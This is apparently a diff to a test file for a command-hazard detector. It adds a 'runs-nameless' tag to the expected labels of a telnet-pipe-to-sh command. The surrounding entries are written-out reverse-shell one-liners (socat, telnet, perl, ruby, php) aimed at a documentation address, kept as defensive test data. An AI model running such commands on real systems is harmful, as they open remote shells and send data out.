@@ -75,7 +75,10 @@ expectHazards([
     'deletes reverse-shell sends-data',
   ],
   ['socat TCP:192.0.2.1:99 EXEC:/bin/sh', 'reverse-shell'],
-  ['telnet 192.0.2.1 98 | sh | telnet 192.0.2.1 99', 'raw-socket reverse-shell runs-download sends-data'],
+  [
+    'telnet 192.0.2.1 98 | sh | telnet 192.0.2.1 99',
+    'raw-socket reverse-shell runs-download runs-nameless sends-data',
+  ],
   ['perl -e \'use Socket; socket(S,2,1,6); exec("/bin/sh -i")\'', 'reverse-shell'],
   ['ruby -rsocket -e \'c=TCPSocket.new("192.0.2.1",99); exec "/bin/sh"\'', 'reverse-shell'],
   ['php -r \'$s=fsockopen("192.0.2.1",99);exec("/bin/sh -i");\'', 'reverse-shell'],
